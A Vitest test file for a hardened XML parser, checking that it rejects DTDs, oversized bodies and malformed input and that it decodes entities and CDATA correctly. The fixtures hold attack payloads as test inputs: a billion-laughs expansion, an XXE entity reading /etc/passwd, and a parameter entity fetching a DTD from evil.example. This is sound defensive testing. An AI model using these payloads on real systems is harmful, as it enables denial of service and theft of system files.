import { describe, expect, it } from "vitest";
import { MessageParseError } from "./message-parse-error.js";
import { childText, parseXmlSafely } from "./safe-xml.js";

function parseCode(xml: string, maxBytes?: number): string | undefined {
  try {
    parseXmlSafely(xml, maxBytes === undefined ? {} : { maxBytes });
  } catch (error) {
    if (error instanceof MessageParseError) return error.code;
    throw error;
  }
  return undefined;
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<xml><Content>&lol3;</Content></xml>`;

const XXE = `<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;</Content></xml>`;

describe("parseXmlSafely — refusals", () => {
  it.each([
    ["billion laughs", BILLION_LAUGHS],
    ["external entity (XXE)", XXE],
    ["a bare DOCTYPE", "<!DOCTYPE xml><xml/>"],
    ["lower-case doctype", "<!doctype xml><xml/>"],
    ["an ENTITY without DOCTYPE", '<xml><!ENTITY a "b"></xml>'],
    ["parameter entity", '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><xml/>'],
  ])("refuses %s with forbidden_dtd", (_label, xml) => {
    expect(parseCode(xml)).toBe("forbidden_dtd");
  });

  it("refuses a DTD hidden behind a comment that mentions CDATA", () => {
    const xml = '<!-- <![CDATA[ --><!DOCTYPE x [<!ENTITY a "b">]><!-- ]]> --><xml><A>&a;</A></xml>';
    expect(parseCode(xml)).toBe("forbidden_dtd");
  });

  it("refuses a DTD after an unterminated CDATA section", () => {
    expect(parseCode('<xml><![CDATA[ <!DOCTYPE x [<!ENTITY a "b">]><A>&a;</A></xml>')).toBe("forbidden_dtd");
  });

  it("accepts the text <!DOCTYPE html> inside CDATA (a user can type it in a chat)", () => {
    const root = parseXmlSafely("<xml><Content><![CDATA[<!DOCTYPE html><!ENTITY x>]]></Content></xml>");
    expect(childText(root, "Content")).toBe("<!DOCTYPE html><!ENTITY x>");
  });

  it("refuses a body over 64 KiB by default, counting UTF-8 bytes", () => {
    const ok = `<xml><Content>${"a".repeat(64 * 1024 - 30)}</Content></xml>`;
    expect(parseCode(ok)).toBeUndefined();
    // 22,000 CJK characters are 66,000 bytes although only 22,000 string characters.
    const cjk = `<xml><Content>${"字".repeat(22_000)}</Content></xml>`;
    expect(parseCode(cjk)).toBe("too_large");
  });

  it("honours maxBytes and checks size before the DTD ban", () => {
    expect(parseCode("<xml><A>123</A></xml>", 10)).toBe("too_large");
    expect(parseCode(BILLION_LAUGHS, 10)).toBe("too_large");
  });

  it.each([
    ["unclosed tag", "<xml><A>1</xml>"],
    ["plain text", "hello"],
    ["empty", ""],
    ["two roots", "<a/><b/>"],
  ])("reports %s as malformed", (_label, xml) => {
    expect(parseCode(xml)).toBe("malformed");
  });
});

describe("parseXmlSafely — content", () => {
  it("joins CDATA sections split around ]]>", () => {
    const root = parseXmlSafely("<xml><A><![CDATA[x]]]]><![CDATA[>y]]></A></xml>");
    expect(childText(root, "A")).toBe("x]]>y");
  });

  it("keeps CDATA verbatim and decodes only predefined and numeric entities in text", () => {
    const root = parseXmlSafely(
      "<xml><A><![CDATA[&amp; <b>]]></A><B>a &amp; b &lt;c&gt; &#20320;&#x597d; &unknown;</B></xml>",
    );
    expect(childText(root, "A")).toBe("&amp; <b>");
    expect(childText(root, "B")).toBe("a & b <c> 你好 &unknown;");
  });

  it("leaves inherited names, NUL and surrogate references undecoded", () => {
    const root = parseXmlSafely("<xml><B>&constructor; &toString; &#0; &#xD800;</B></xml>");
    expect(childText(root, "B")).toBe("&constructor; &toString; &#0; &#xD800;");
  });

  it("ignores layout whitespace around CDATA and children but keeps plain text exactly", () => {
    const root = parseXmlSafely("<xml>\n  <A>\n <![CDATA[ x ]]>\n</A>\n  <B>  y </B>\n</xml>");
    expect(childText(root, "A")).toBe(" x ");
    expect(childText(root, "B")).toBe("  y ");
    expect(root.children.map((c) => c.name)).toEqual(["A", "B"]);
  });

  it("keeps numbers as strings", () => {
    const root = parseXmlSafely("<xml><MsgId>4363689963896700987</MsgId><N>007</N></xml>");
    expect(childText(root, "MsgId")).toBe("4363689963896700987");
    expect(childText(root, "N")).toBe("007");
  });

  it("accepts an XML declaration and comments", () => {
    const root = parseXmlSafely('<?xml version="1.0" encoding="UTF-8"?><xml><!-- hi --><A>1</A></xml>');
    expect(childText(root, "A")).toBe("1");
  });
});
